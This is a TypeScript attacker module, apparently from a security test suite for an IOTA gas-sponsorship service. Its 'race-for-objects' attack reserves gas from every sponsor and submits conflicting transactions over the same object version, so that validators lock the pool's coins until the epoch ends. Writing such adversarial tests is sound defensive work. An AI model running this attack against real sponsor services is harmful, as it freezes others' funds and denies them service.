import { Ed25519Keypair } from '@iota/iota-sdk/keypairs/ed25519';
import {
  buildCarsProgram,
  driveCarProgram,
  type ObjectRef,
  signRaw,
} from '../../../support/raw-transaction.js';
import type { AttackClient } from '../attack-client.js';
import type { Attacker } from '../attacker.js';
import type { Target } from '../target.js';

const CARS = 8;
const RACERS = 6;
const CARS_BUDGET = 450_000_000;
const RIDE_BUDGET = 10_000_000;
const DURATION_SECS = 10;

interface Effects {
  readonly created?: readonly { readonly reference: ObjectRef }[];
}

/** The attacker's new cars; none when the transaction was not sponsored. */
async function makeCars(client: AttackClient, user: Ed25519Keypair): Promise<readonly ObjectRef[]> {
  const program = buildCarsProgram(user.toIotaAddress(), CARS);
  const reply = await client.sponsor(user, program, { gasBudget: CARS_BUDGET });
  if (reply?.status !== 200) return [];
  const { effects } = JSON.parse(reply.text) as { effects: Effects };
  return (effects.created ?? []).map(({ reference }) => reference);
}

/**
 * Sends several transactions over one version of an object at the same moment, with coins of all sponsors.
 */
async function race(
  { sponsors }: Target,
  client: AttackClient,
  user: Ed25519Keypair,
  car: ObjectRef,
): Promise<void> {
  const drive = async (distance: number) => {
    const sponsor = sponsors[distance % sponsors.length];
    const reservation = await client.reserve(RIDE_BUDGET, DURATION_SECS, client.token, sponsor);
    if (!reservation) return null;
    const program = driveCarProgram(car, distance);
    const transaction = await signRaw({ program, user, reservation, gasBudget: RIDE_BUDGET });
    return () => client.execute(reservation, transaction);
  };
  const rides = await Promise.all(Array.from({ length: RACERS }, (_, index) => drive(index + 1)));
  await Promise.all(rides.map(async (execute) => execute?.()));
}

/** Has conflicting transactions submitted: validators would hold the coins of each until the epoch ends. */
export const raceForObjects: Attacker = {
  name: 'race-for-objects',
  choosesSponsors: true,
  aim: 'quarantine the pool’s coins by transactions that exclude each other',
  async run(target, client) {
    const user = new Ed25519Keypair();
    let cars: readonly ObjectRef[] = [];
    await client.repeat(300, async () => {
      if (cars.length === 0) cars = await makeCars(client, user);
      const [car, ...others] = cars;
      cars = others;
      if (car) await race(target, client, user, car);
    });
  },
};
